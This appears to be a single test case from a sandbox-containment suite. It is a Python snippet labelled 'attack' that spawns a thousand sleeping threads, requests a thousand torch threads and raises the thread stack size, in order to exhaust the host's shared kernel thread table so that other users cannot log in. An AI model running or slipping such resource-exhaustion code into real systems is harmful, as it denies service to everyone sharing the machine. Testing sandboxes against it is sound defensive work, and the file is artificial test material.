"""A thousand threads, started from Python and from C.

Each sleeps and costs a stack of eight megabytes of addresses and an entry in the kernel's table, which is everybody's. Where the
table is full nobody can log in any more. torch's own pool is asked for a thousand as well.
"""
# seen: threads, then
# answers: square_sum

# %% attack
import _thread
import threading
import time

STARTED = []


def mischief():
    if STARTED:
        return
    try:
        while len(STARTED) < 1000:
            _thread.start_new_thread(time.sleep, (1e6,))
            STARTED.append(1)
    except RuntimeError as problem:
        print(f"{len(STARTED)} threads, then: {problem}")
    if len(STARTED) > 100:
        escaped(f"{len(STARTED)} threads run")
    try:
        torch.set_num_interop_threads(1000)
    except RuntimeError as problem:
        print(f"torch: {str(problem)[:80]}")
    threading.stack_size(1 << 30)
